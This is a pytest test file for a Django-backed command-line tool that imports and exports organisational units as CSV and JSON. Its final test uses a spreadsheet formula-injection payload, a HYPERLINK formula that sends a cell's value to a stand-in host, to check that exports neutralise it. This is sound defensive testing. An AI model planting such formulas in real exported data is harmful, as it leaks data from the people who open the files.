"""``kundpuls units import|export`` through the real command line app."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
import typer
from typer.testing import CliRunner

from kundpuls.cli import units
from kundpuls.web.org.models import Unit


@pytest.fixture
def app() -> typer.Typer:
    application = typer.Typer()
    units.register(application)
    return application


@pytest.mark.django_db
def test_import_reports_what_it_did_as_json(app: typer.Typer, tmp_path: Path) -> None:
    file = tmp_path / "units.csv"
    file.write_text("code,name,kind,parent_code\nCLI-1,Ny enhet,unit,EXK\n", encoding="utf-8")
    result = CliRunner().invoke(app, ["units", "import", str(file), "--json"])
    assert result.exit_code == 0, result.output
    assert json.loads(result.stdout) == {"created": 1, "updated": 0, "moved": 0, "unchanged": 0}
    assert Unit.objects.filter(code="CLI-1").exists()


@pytest.mark.django_db
def test_import_lists_every_bad_row_and_exits_non_zero(app: typer.Typer, tmp_path: Path) -> None:
    file = tmp_path / "units.csv"
    file.write_text("code,name,kind,parent_code\nCLI-2,,unit,EXK\nCLI-3,Enhet,unit,OKÄND\n", encoding="utf-8")
    result = CliRunner().invoke(app, ["units", "import", str(file), "--json"])
    assert result.exit_code == 2
    document = json.loads(result.stdout)
    assert [(e["row"], e["column"], e["value"]) for e in document["errors"]] == [
        (2, "name", ""),
        (3, "parent_code", "OKÄND"),
    ]
    assert not Unit.objects.filter(code__startswith="CLI-").exists()


@pytest.mark.django_db
def test_export_writes_the_import_format(app: typer.Typer, tmp_path: Path) -> None:
    out = tmp_path / "export.csv"
    result = CliRunner().invoke(app, ["units", "export", "--out", str(out)])
    assert result.exit_code == 0, result.output
    lines = out.read_text(encoding="utf-8").splitlines()
    assert lines[0] == "code,name,kind,parent_code,valid_from,valid_to"
    assert len(lines) == Unit.objects.count() + 1
    as_json = json.loads(CliRunner().invoke(app, ["units", "export", "--json"]).stdout)
    assert {row["code"] for row in as_json} == set(Unit.objects.values_list("code", flat=True))


@pytest.mark.django_db
def test_export_neutralises_a_formula_in_a_unit_name_and_import_reads_it_back(
    app: typer.Typer, tmp_path: Path
) -> None:
    name = '=HYPERLINK("http://x.example/?"&B3,"Personal")'
    Unit.objects.filter(code="VOF-HT-N").update(name=name)
    file = tmp_path / "units.csv"
    for args in (["--out", str(file)], []):
        result = CliRunner().invoke(app, ["units", "export", *args])
        assert result.exit_code == 0, result.output
        text = file.read_text(encoding="utf-8") if args else result.stdout
        line = next(row for row in text.splitlines() if row.startswith("VOF-HT-N,"))
        assert line.startswith("VOF-HT-N,\"'=HYPERLINK(")
    result = CliRunner().invoke(app, ["units", "import", str(file), "--json"])
    assert result.exit_code == 0, result.output
    assert Unit.objects.get(code="VOF-HT-N").name == name
